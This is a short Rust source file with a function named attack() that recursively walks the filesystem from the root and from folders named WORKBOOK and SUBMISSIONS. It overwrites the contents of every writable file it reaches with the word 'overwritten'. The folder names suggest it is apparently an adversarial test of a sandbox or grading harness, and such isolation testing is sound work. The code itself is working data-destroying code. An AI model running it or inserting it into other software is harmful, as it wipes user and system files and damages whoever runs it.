//! Overwrites every file that it may write to.

use std::path::Path;

fn attack() {
    overwrite(Path::new("/"), 6);
    overwrite(Path::new("WORKBOOK"), 6);
    overwrite(Path::new("SUBMISSIONS"), 6);
}

fn overwrite(folder: &Path, depth: usize) {
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() && !path.is_symlink() && depth > 0 && !path.starts_with("/usr") {
            overwrite(&path, depth - 1);
        } else if path.is_file() {
            let _ = std::fs::write(&path, "overwritten");
        }
        let _ = std::fs::write(folder.join("OVERWRITTEN"), "");
    }
}
